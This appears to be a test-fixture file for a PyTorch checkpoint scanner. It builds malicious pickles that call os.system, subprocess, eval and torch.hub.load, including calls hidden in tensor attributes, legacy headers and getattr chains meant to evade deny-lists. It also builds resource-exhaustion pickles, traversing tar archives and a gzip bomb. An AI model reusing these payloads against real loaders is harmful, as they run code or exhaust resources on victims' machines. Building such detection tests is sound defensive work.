"""Pickles that would run code, or never end: beside the weights, in the legacy form, and without a container."""

from __future__ import annotations

import io
import struct
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile_building import (
    LAUGHING_DICT,
    LAUGHING_LIST,
    LAUGHING_TUPLE,
    NO_VIEW,
    UGLY,
    VALUES,
    Row,
    before,
    beside,
    call,
    get,
    instance,
    mapping,
    module,
    named,
    number,
    put,
    python,
    shell,
    text,
)


def odd(make: Callable[[Any], bytes]) -> Callable[[Any], Path]:
    return lambda forge: beside(forge, make(forge))


def whole(make: Callable[[Any], bytes]) -> Callable[[Any], Path]:
    return lambda forge: forge.archive(make(forge), {"0": VALUES})


def bare(make: Callable[[Any], bytes]) -> Callable[[Any], Path]:
    return lambda forge: forge.archive(make(forge))


def first(make: Callable[[Any], bytes]) -> Callable[[Any], Path]:
    return lambda forge: before(forge, make(forge))


def octets(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def nested(forge: Any) -> bytes:
    """A whole pickle as the argument of a function that unpickles it."""
    inner = b"\x80\x02" + call(forge) + b"."
    return named("torch.storage._load_from_bytes") + octets(inner) + b"\x85R"


def chain(forge: Any) -> bytes:
    """getattr(getattr(builtins, …), …) by which deny-lists of names are passed."""
    inner = named("builtins.getattr") + named("torch.serialization") + text("os") + b"\x86R"
    return named("builtins.getattr") + inner + text("system") + b"\x86R" + text(shell(forge)) + b"\x85R"


def within_a_tensor(forge: Any) -> bytes:
    """The call as an attribute of a tensor, behind functions that are allowed."""
    return (
        named("torch._tensor._rebuild_from_type_v2")
        + b"("
        + named("torch._utils._rebuild_tensor_v2")
        + named("torch.Tensor")
        + b"("
        + forge.storage()
        + b"K\x00K\x04\x85K\x01\x85\x89}t"
        + mapping(odd=call(forge))
        + b"tR"
    )


def probes(start: int, mask: int, count: int) -> tuple[list[int], int]:
    """Integers that fill the places in which a dictionary of Python's looks for one other, and that other."""
    wanted = start
    place, rest = wanted & mask, wanted
    taken: dict[int, None] = {}
    while len(taken) < count:
        taken[place] = None
        rest >>= 5
        place = (place * 5 + rest + 1) & mask
    return list(taken), wanted


def colliding_memo(_: Any) -> bytes:
    """A memo in whose dictionary every look-up of one number takes a hundred thousand steps."""
    mask = (1 << 19) - 1
    filled, wanted = probes(1 << 31, mask, 160_000)
    puts = b"".join(put(index) for index in filled)
    return b"\x80\x02N" + puts + put(wanted) + (get(wanted) + b"0") * 200_000 + b"."


def colliding_keys(step: int, count: int) -> bytes:
    return b"}(" + b"".join(number(step * n) + b"N" for n in range(1, count)) + b"u"


def colliding_pairs(_: Any) -> bytes:
    pairs = b"".join(number(((1 << 61) - 1) * n) + b"N\x86" for n in range(1, 60_000))
    return named("collections.OrderedDict") + b"](" + pairs + b"e\x85R"


def diamond(levels: int, leaf: bytes) -> bytes:
    """A module that holds another twice, which holds another twice, …"""
    made = leaf
    for _ in range(levels):
        made = made + b"q\x640" + module(a=b"h\x64", b=b"h\x64")
    return made


def modules_over(count: int, inner: bytes) -> bytes:
    """Many modules, each with the same one inside."""
    return inner + put(500) + b"0](" + module(a=get(500)) * count + b"e"


def long_names(forge: Any) -> bytes:
    """Modules in one another, each by a name of a megabyte that is stored once."""
    name = text("n" * 1_000_000) + put(500) + b"0"
    made = instance(
        "torch.nn.modules.module.Module", _parameters=mapping(w=forge.tensor()), _buffers=b"}", _modules=b"}"
    )
    for _ in range(90):
        made = (
            made
            + b"q\x640"
            + instance(
                "torch.nn.modules.module.Module", _parameters=b"}", _buffers=b"}", _modules=b"}(" + get(500) + b"h\x64u"
            )
        )
    many = b"".join(b"h\x64" for _ in range(3))
    return b"\x80\x02" + name + made + b"q\x640](" + many + b"e."


def wide_module(forge: Any) -> bytes:
    """A module of 50,000 parameters that is reached in 2^16 ways."""
    wide = instance(
        "torch.nn.modules.module.Module",
        _parameters=forge.tensor()
        + put(501)
        + b"0}("
        + b"".join(text(f"p{n}") + get(501) for n in range(50_000))
        + b"u",
        _buffers=b"}",
        _modules=b"}",
    )
    return diamond(16, wide)


def in_itself(forge: Any) -> bytes:
    """A module whose submodule is itself."""
    return (
        named("torch.nn.modules.module.Module")
        + b")\x81"
        + put(502)
        + mapping(_parameters=mapping(w=forge.tensor()), _buffers=b"}", _modules=mapping(me=get(502)))
        + b"b"
    )


def many_globals(_: Any) -> bytes:
    """A million long names out of two thousand strings."""
    names = b"".join(text(f"{n:04}" + "x" * 490) + put(n) + b"0" for n in range(2000))
    return names + b"".join(get(n) + get(1000 + m) + b"\x930" for n in range(1000) for m in range(1000)) + b"N"


def legacy(**parts: Callable[[Any], bytes]) -> Callable[[Any], Path]:
    """A file of the legacy form with one of its pickles replaced."""
    return lambda f: f.legacy(
        f.state(w=f.tensor(view=NO_VIEW)), {"0": VALUES}, **{part: make(f) for part, make in parts.items()}
    )


def plain(make: Callable[[Any], bytes], name: str = "model.pkl") -> Callable[[Any], Path]:
    return lambda forge: forge.file(make(forge), name)


def tar(*members: tuple[str, bytes], link: str = "") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as opened:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            opened.addfile(info, io.BytesIO(data))
        if link:
            info = tarfile.TarInfo("link")
            info.type, info.linkname = tarfile.SYMTYPE, link
            opened.addfile(info)
    return buffer.getvalue()


CODE = [
    Row("os.system by GLOBAL", odd(call), "unsafe", "os.system"),
    Row(
        "os.system by STACK_GLOBAL",
        odd(lambda f: text("os") + text("system") + b"\x93" + text(shell(f)) + b"\x85R"),
        "unsafe",
        "os.system",
    ),
    Row("os.system by INST", odd(lambda f: b"(" + text(shell(f)) + b"ios\nsystem\n"), "unsafe", "os.system"),
    Row("os.system by OBJ", odd(lambda f: b"(" + named("os.system") + text(shell(f)) + b"o"), "unsafe", "os.system"),
    Row("posix.system", odd(lambda f: named("posix.system") + text(shell(f)) + b"\x85R"), "unsafe", "posix.system"),
    Row(
        "subprocess.Popen by NEWOBJ",
        odd(
            lambda f: named("subprocess.Popen") + b"](" + text("touch") + text(str(f.folder / "canary")) + b"e\x85\x81"
        ),
        "unsafe",
        "subprocess.Popen",
    ),
    Row(
        "subprocess.Popen by NEWOBJ_EX",
        odd(lambda f: named("subprocess.Popen") + text(shell(f)) + b"\x85" + mapping(shell=b"\x88") + b"\x92"),
        "unsafe",
        "subprocess.Popen",
    ),
    Row("an extension code", odd(lambda _: b"\x82\x07)R"), "unsafe", "copyreg.extension_7"),
    Row(
        "__setstate__ by BUILD",
        odd(lambda f: instance("torch.fx.graph_module.GraphModule", _code=text(python(f)))),
        "unsafe",
        "torch.fx.graph_module.GraphModule",
    ),
    Row("builtins.eval", odd(lambda f: named("builtins.eval") + text(python(f)) + b"\x85R"), "unsafe", "builtins.eval"),
    Row(
        "eval as Python 2 called it",
        odd(lambda f: named("__builtin__.eval") + text(python(f)) + b"\x85R"),
        "unsafe",
        "builtins.eval",
    ),
    Row(
        "builtins.exec by a dotted name",
        odd(lambda f: text("builtins") + text("exec") + b"\x93" + text(python(f)) + b"\x85R"),
        "unsafe",
        "builtins.exec",
    ),
    Row(
        "io.open",
        odd(lambda f: named("io.open") + text(str(f.folder / "canary")) + text("w") + b"\x86R"),
        "unsafe",
        "io.open",
    ),
    Row("a pickle within the pickle", odd(nested), "unsafe", "torch.storage._load_from_bytes"),
    Row("a chain of getattr", odd(chain), "unsafe", "builtins.getattr"),
    Row(
        "functools.partial",
        odd(lambda f: named("functools.partial") + named("os.system") + text(shell(f)) + b"\x86R" + b")R"),
        "unsafe",
        "os.system",
    ),
    Row("a call that is dropped", first(call), "unsafe", "os.system"),
    Row("a call as the key of a dictionary", odd(lambda f: b"}" + call(f) + b"Ns"), "unsafe", "os.system"),
    Row("a call among the attributes of a tensor", odd(within_a_tensor), "F004", "attributes of a tensor"),
    Row(
        "a call in the persistent id",
        whole(
            lambda f: f.state(w=f.tensor(), v=b"(" + text("storage") + call(f) + text("0") + text("cpu") + b"K\x04tQ")
        ),
        "F002",
        "a storage of the unknown class",
    ),
    Row(
        "a call for the hooks of a tensor",
        whole(lambda f: f.state(w=f.tensor().replace(b"\x89}", b"\x89" + call(f), 1))),
        "F004",
        "a tensor with hooks",
    ),
    Row(
        "a call as a parameter",
        whole(lambda f: f.state(w=f.tensor(), v=named("torch._utils._rebuild_parameter") + call(f) + b"\x88}\x87R")),
        "F002",
        "a parameter of something else",
    ),
    Row(
        "torch.load itself",
        odd(lambda f: named("torch.serialization.load") + text(str(f.folder / "x")) + b"\x85R"),
        "unsafe",
        "torch.serialization.load",
    ),
    Row(
        "torch.hub.load",
        odd(lambda _: named("torch.hub.load") + text("evil/repo") + text("m") + b"\x86R"),
        "unsafe",
        "torch.hub.load",
    ),
    Row(
        "a pickled module with its class",
        whole(
            lambda f: (
                b"\x80\x02"
                + instance("evil.Model", _parameters=mapping(w=f.tensor()), _buffers=b"}", _modules=b"}", hook=call(f))
                + b"."
            )
        ),
        "unsafe",
        "evil.Model, os.system",
    ),
    Row(
        "a global whose name turns the terminal around",
        odd(lambda _: text(UGLY) + text("x") + b"\x93"),
        "unsafe",
        "\x1b[31mred",
    ),
    Row(
        "code behind the end",
        whole(lambda f: f.state(w=f.tensor()) + b"\x80\x02" + call(f) + b"."),
        "F002",
        "goes on after the pickle",
    ),
    Row(
        "code before a state dict that is left on the stack",
        whole(lambda f: b"\x80\x02" + call(f) + f.state(w=f.tensor())[2:]),
        "F002",
        "left on its stack",
    ),
    Row(
        "a class changed by BUILD",
        odd(lambda _: named("torch.Tensor") + mapping(__del__=named("os.system")) + b"b"),
        "F002",
        "changes 'torch.Tensor' itself",
    ),
]

ENDLESS = [
    Row("a tuple that laughs", odd(lambda _: LAUGHING_TUPLE), "safe"),
    Row("a list that laughs", odd(lambda _: LAUGHING_LIST), "safe"),
    Row("a dictionary that laughs", odd(lambda _: LAUGHING_DICT), "safe"),
    Row("a laughing key", odd(lambda _: b"}" + LAUGHING_TUPLE + b"Ns"), "F003", "a key of more than"),
    Row(
        "a laughing key at the top",
        whole(lambda f: b"\x80\x02}(" + LAUGHING_TUPLE + b"N" + text("w") + f.tensor() + b"u."),
        "F003",
        "a key of more than",
    ),
    Row("a laughing set", odd(lambda _: b"\x8f(" + LAUGHING_TUPLE + b"\x90"), "safe"),
    Row(
        "a laughing argument",
        odd(lambda _: named("collections.OrderedDict") + LAUGHING_LIST + b"\x85R"),
        "F002",
        "as a key",
    ),
    Row(
        "a laughing state",
        odd(lambda _: named("collections.OrderedDict") + b")R" + LAUGHING_DICT + b"b"),
        "F004",
        "attributes of a OrderedDict",
    ),
    Row(
        "a laughing size",
        whole(
            lambda f: f.state(
                w=named("torch._utils._rebuild_tensor_v2")
                + b"("
                + f.storage()
                + b"K\x00"
                + LAUGHING_TUPLE
                + b"K\x01\x85\x89}tR"
            )
        ),
        "F002",
        "not natural numbers",
    ),
    Row(
        "a laughing persistent id",
        whole(lambda f: f.state(w=f.tensor(), v=LAUGHING_TUPLE + b"Q")),
        "F002",
        "is not of a storage",
    ),
    Row("laughing modules", bare(lambda _: b"\x80\x02" + diamond(60, module()) + b"."), "F003", "nests more than"),
    Row(
        "laughing modules at every place of a list",
        bare(lambda _: b"\x80\x02" + modules_over(600, diamond(16, module())) + b"."),
        "F003",
        "nests more than",
    ),
    Row("a wide module by many ways", whole(lambda f: b"\x80\x02" + wide_module(f) + b"."), "F003", "nests more than"),
    Row("modules with long names in one another", whole(long_names), "F003", "more than"),
    Row("a module in itself", whole(lambda f: b"\x80\x02" + in_itself(f) + b"."), "F003", "nests more than"),
    Row("a list that holds itself", bare(lambda _: b"\x80\x02]q\x00h\x00a."), "F001", "a pickled list"),
    Row(
        "a dictionary that holds itself",
        whole(lambda f: b"\x80\x02}q\x00(" + text("model") + b"h\x00" + text("w") + f.tensor() + b"u."),
        "safe",
    ),
    Row("a tuple in a tuple, 300,000 times", odd(lambda _: b")" + b"\x85" * 300_000), "safe"),
    Row(
        "a call of a call, a million times", odd(lambda _: named("a.b") + b")R" * 1_000_000), "F003", "makes objects of"
    ),
    Row(
        "a call of the result of a call, nested",
        odd(lambda _: b")" + (b"\x85q\x640" + named("a.b") + b"h\x64R") * 100_000),
        "unsafe",
        "a.b",
    ),
    Row("a key in a key, 300,000 times", odd(lambda _: b")" + b"q\x640}h\x64Ns" * 300_000), "F002", "as a key"),
    Row(
        "a state in a state, 100,000 times",
        odd(lambda _: b"}" + (b"q\x640" + named("a.b") + b")R" + b"h\x64b") * 100_000),
        "unsafe",
        "a.b",
    ),
    Row("marks without end", whole(lambda _: b"\x80\x02" + b"(" * 1_000_000 + b"."), "F003", "levels deep"),
    Row(
        "a frame of 2^63 bytes",
        whole(lambda f: b"\x80\x04\x95" + struct.pack("<Q", 1 << 63) + f.state(w=f.tensor())[2:]),
        "F002",
        "more than it has left",
    ),
    Row("a text of 2^63 bytes", odd(lambda _: b"\x8d" + struct.pack("<Q", 1 << 63)), "F002", "were expected"),
    Row("bytes of 2^63 bytes", odd(lambda _: b"\x8e" + struct.pack("<Q", 1 << 63)), "F002", "were expected"),
    Row("a bytearray of 2^40 bytes", odd(lambda _: b"\x96" + struct.pack("<Q", 1 << 40)), "F002", "were expected"),
    Row("an integer of 2^31 bytes", odd(lambda _: b"\x8b\xff\xff\xff\x7f"), "F003", "an integer of 2,147,483,647"),
    Row("an integer of a negative length", odd(lambda _: b"\x8b\xff\xff\xff\xff"), "F003", "an integer of"),
    Row("an integer of five million digits", odd(lambda _: b"L0x" + b"f" * 5_000_000 + b"L\n"), "F003", "a number of"),
    Row("a fraction of five million digits", odd(lambda _: b"F" + b"9" * 5_000_000 + b"\n"), "F003", "a number of"),
    Row("a fraction that is none, of 30 MB", odd(lambda _: b"F" + b"\x01" * 30_000_000 + b"\n"), "F003", "a number of"),
    Row(
        "a memo far away",
        whole(lambda f: b"\x80\x02Nr\xff\xff\xff\xff0" + f.state(w=f.tensor())[2:]),
        "F003",
        "remembers",
    ),
    Row(
        "a memo at 10^4000",
        whole(lambda f: b"\x80\x02Np" + b"9" * 4000 + b"\n0" + f.state(w=f.tensor())[2:]),
        "F003",
        "a number of 4,000",
    ),
    Row("a memo before the first", whole(lambda f: b"\x80\x02Np-1\n0" + f.state(w=f.tensor())[2:]), "F002", "-1"),
    Row("a memo whose numbers collide", whole(colliding_memo), "F003", "remembers"),
    Row("keys of one hash", odd(lambda _: colliding_keys((1 << 61) - 1, 60_000)), "safe"),
    Row("pairs of one hash", odd(colliding_pairs), "safe"),
    Row(
        "keys that lead along one path",
        odd(
            lambda _: (
                b"}("
                + b"".join(number(n) + b"N" for n in probes(1 << 31, (1 << 18) - 1, 80_000)[0])
                + (number(1 << 31) + b"N") * 200_000
                + b"u"
            )
        ),
        "safe",
    ),
    Row("a million long names of globals", odd(many_globals), "F003", "names more"),
    Row(
        "a state dict of 100,000 names for one tensor",
        whole(
            lambda f: (
                b"\x80\x02"
                + f.tensor()
                + put(9)
                + b"0}("
                + b"".join(text(f"{n}") + get(9) for n in range(100_000))
                + b"u."
            )
        ),
        "safe",
    ),
    Row(
        "a call with the same long list, over and over",
        whole(
            lambda _: (
                b"\x80\x02ccollections\nOrderedDict\nq\x00]("
                + b"K\x01N\x86" * 100_000
                + b"e\x85q\x010"
                + b"h\x00h\x01R0" * 100_000
                + b"N."
            )
        ),
        "F003",
        "makes objects of more than",
    ),
    Row("text that only Python 2 escapes", odd(lambda _: b"S'\\q'\n"), "safe"),
]

LEGACY = [
    Row("a benign legacy file", legacy(), "safe"),
    Row(
        "code in the object of the legacy form",
        lambda f: f.legacy(f.state(w=f.tensor(view=NO_VIEW), odd=call(f)), {"0": VALUES}),
        "unsafe",
        "os.system",
    ),
    Row(
        "code in the version of the legacy form",
        legacy(version=lambda f: b"\x80\x02" + call(f) + b"0M\xe9\x03."),
        "F002",
        "names a global",
    ),
    Row(
        "code in place of the version", legacy(version=lambda f: b"\x80\x02" + call(f) + b"."), "F002", "names a global"
    ),
    Row(
        "code in the magic number",
        legacy(magic=lambda f: b"\x80\x02" + call(f) + b"0\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."),
        "F004",
        "a plain pickle",
    ),
    Row(
        "code behind the magic number",
        legacy(magic=lambda f: b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + b"\x80\x02" + call(f) + b"."),
        "F002",
        "names a global",
    ),
    Row(
        "code among the sizes of C types",
        legacy(sizes=lambda f: b"\x80\x02" + mapping(long=call(f)) + b"."),
        "F002",
        "names a global",
    ),
    Row(
        "code among the storage keys",
        legacy(keys=lambda f: b"\x80\x02" + call(f) + b"0](" + text("0") + b"e."),
        "F002",
        "names a global",
    ),
    Row("code behind the storages", legacy(tail=lambda f: b"\x80\x02" + call(f) + b"."), "F002", "belong to none"),
    Row(
        "a legacy count of 2^62",
        lambda f: f.file(
            f.legacy(f.state(w=f.tensor(view=NO_VIEW)), {"0": VALUES}).read_bytes()[:-24]
            + struct.pack("<q", 1 << 62)
            + VALUES
        ),
        "F002",
        "elements where the pickle says 4",
    ),
    Row(
        "a legacy view that climbs out",
        lambda f: f.legacy(
            f.state(w=f.tensor(shape=(1,), view=b"(" + text("7") + number(3) + number(1 << 40) + b"t")), {"0": VALUES}
        ),
        "F002",
        "reaches out of storage",
    ),
    Row(
        "the source of a module in the legacy form",
        lambda f: f.legacy(
            f.state(
                w=f.tensor(view=NO_VIEW),
                odd=b"(" + text("module") + named("evil.Model") + text("evil.py") + text(python(f)) + b"tQ)\x81",
            ),
            {"0": VALUES},
        ),
        "unsafe",
        "evil.Model",
    ),
]

PLAIN = [
    Row("os.system as a plain pickle", plain(lambda f: b"\x80\x04" + call(f) + b"."), "F004", "a plain pickle"),
    Row(
        "os.system in protocol 0",
        plain(lambda f: b"cos\nsystem\n(S'" + shell(f).encode() + b"'\ntR."),
        "F004",
        "a plain pickle",
    ),
    Row(
        "a pickle that pretends to be a PNG",
        plain(lambda f: b"\x80\x04" + call(f) + b".", "cat.png"),
        "F004",
        "a plain pickle",
    ),
    Row(
        "a checkpoint behind a script",
        plain(
            lambda f: (
                b"#!/bin/sh\n"
                + shell(f).encode()
                + b"\n"
                + f.archive(f.state(w=f.tensor()), {"0": VALUES}).read_bytes()
            ),
            "model.sh",
        ),
        "F001",
        "first bytes",
    ),
    Row(
        "torch's tar with code in its pickle",
        plain(
            lambda f: tar(
                ("storages", b"\x80\x02K\x00."),
                ("tensors", b"\x80\x02K\x00."),
                ("pickle", b"\x80\x02" + call(f) + b"."),
            ),
            "old.tar",
        ),
        "F004",
        "torch's tar form",
    ),
    Row("a tar that climbs", plain(lambda _: tar(("../../canary", b"x")), "evil.pth.tar"), "F001", "a tar archive"),
    Row(
        "a tar with a link to the root",
        plain(lambda _: tar(("storages", b"x"), link="/"), "evil.tar"),
        "F004",
        "torch's tar form",
    ),
    Row(
        "a gzip bomb",
        plain(lambda _: b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(1000), "model.pt"),
        "F001",
        "a gzip archive",
    ),
    Row("zeros", plain(lambda _: bytes(100_000), "model.pt"), "F001", "begins with zeros"),
    Row("a page of HTML", plain(lambda _: b"<html><script>alert(1)</script>", "model.pt"), "F001", "a web page"),
]

ROWS = [*CODE, *ENDLESS, *LEGACY, *PLAIN]
